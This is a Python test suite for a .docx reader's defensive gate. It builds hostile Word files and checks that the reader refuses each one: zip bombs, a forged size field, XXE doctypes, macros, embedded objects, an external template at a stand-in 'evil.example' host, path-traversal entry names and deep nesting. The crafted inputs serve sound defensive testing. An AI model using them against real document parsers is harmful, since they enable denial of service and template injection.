"""Every attack on the Word reader is refused with its sentence, before a library sees it."""

import io
import zipfile

import pytest

from documents import Look, Unreadable, read, write_docx
from documents.read.gate import Limits, unpacked
from tests.documents.charters import sample

DOCUMENT = "word/document.xml"


def a_docx(**changed: bytes | str) -> bytes:
    """A good Word file with parts added or replaced; `__` in a name stands for `/`."""
    good = write_docx(
        sample("nara-vard"), decision=None, standing="draft", look=Look("Region Sjöviken")
    )
    parts = {name.replace("__", "/"): part for name, part in changed.items()}
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as old, zipfile.ZipFile(written, "w", 8) as new:
        for name in old.namelist():
            new.writestr(name, parts.pop(name) if name in parts else old.read(name))
        for name, part in parts.items():
            new.writestr(name, part)
    return written.getvalue()


def refusal_of(data: bytes) -> str:
    with pytest.raises(Unreadable) as refusal:
        read(data, "attack.docx")
    return refusal.value.words.sv


def test_a_good_file_passes() -> None:
    assert DOCUMENT in unpacked(a_docx())


def test_a_bomb_is_refused_while_it_is_unpacked() -> None:
    assert "orimligt mycket" in refusal_of(a_docx(word__media__a="0" * 30_000_000))


def test_a_bomb_that_lies_about_its_size_is_refused() -> None:
    data = bytearray(a_docx(word__zeros="0" * 5_000_000))
    directory = data.index(b"PK\x01\x02")
    lie = data.index(b"word/zeros", directory) - 46 + 24
    data[lie : lie + 4] = (100).to_bytes(4, "little")
    with pytest.raises(Unreadable):
        read(bytes(data), "attack.docx")


def test_many_parts_are_refused() -> None:
    assert "orimligt mycket" in refusal_of(a_docx(**{f"word__x{n}": b"x" for n in range(600)}))


def test_a_large_file_is_refused_before_it_is_opened() -> None:
    with pytest.raises(Unreadable) as refusal:
        unpacked(b"PK\x03\x04" + bytes(2_000_000), Limits(size=1024 * 1024))
    assert "högst 1 MB" in refusal.value.words.sv


@pytest.mark.parametrize(
    "declaration",
    ["<!DOCTYPE x [<!ENTITY a 'b'>]>", "<!DOCTYPE x SYSTEM 'http://a.example/x.dtd'>"],
)
def test_a_document_type_is_refused(declaration: str) -> None:
    part = f"<?xml version='1.0'?>{declaration}<x>&a;</x>"
    assert "dokumenttyp" in refusal_of(a_docx(**{"word__document.xml": part}))


def test_a_document_type_hidden_in_utf16_is_refused() -> None:
    part = "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE x><x/>".encode("utf-16")
    assert "dokumenttyp" in refusal_of(a_docx(**{"word__document.xml": part}))


def test_macros_are_refused() -> None:
    assert "makron" in refusal_of(a_docx(**{"word__vbaProject.bin": b"x"}))


def test_a_macro_enabled_content_type_is_refused() -> None:
    macros = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    types = b"<Types><Override ContentType='" + macros + b"'/></Types>"
    assert "makron" in refusal_of(a_docx(**{"[Content_Types].xml": types}))


def test_embedded_objects_are_refused() -> None:
    assert "inbäddade objekt" in refusal_of(a_docx(**{"word__embeddings__sheet.xlsx": b"x"}))


def test_an_external_template_is_refused_and_named() -> None:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    refusal = refusal_of(a_docx(**{"word___rels__settings.xml.rels": rels}))
    assert "http://evil.example/t.dotm" in refusal


def test_external_hyperlinks_are_let_in() -> None:
    assert read(a_docx(), "good.docx").document.title is not None


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_name_that_stands_twice_is_refused() -> None:
    written = io.BytesIO(a_docx())
    with zipfile.ZipFile(written, "a") as archive:
        archive.writestr("word/Document.xml", b"<x/>")
    assert "riktig Wordfil" in refusal_of(written.getvalue())


@pytest.mark.parametrize("name", ["../evil.xml", "word/../../evil.xml", "/evil.xml", "C:evil.xml"])
def test_a_path_that_climbs_is_refused(name: str) -> None:
    assert "riktig Wordfil" in refusal_of(a_docx(**{name: b"<x/>"}))


def test_deep_nesting_is_refused() -> None:
    part = b"<x>" * 5_000 + b"</x>" * 5_000
    assert "skadad" in refusal_of(a_docx(**{"word__document.xml": part}))


def test_a_cut_off_file_is_refused() -> None:
    assert "skadad" in refusal_of(a_docx()[:-2_000])


def test_a_password_on_the_parts_is_refused() -> None:
    data = bytearray(a_docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place != -1:
            data[place + offset] |= 1
            place = data.find(mark, place + 4)
    assert "lösenord" in refusal_of(bytes(data))
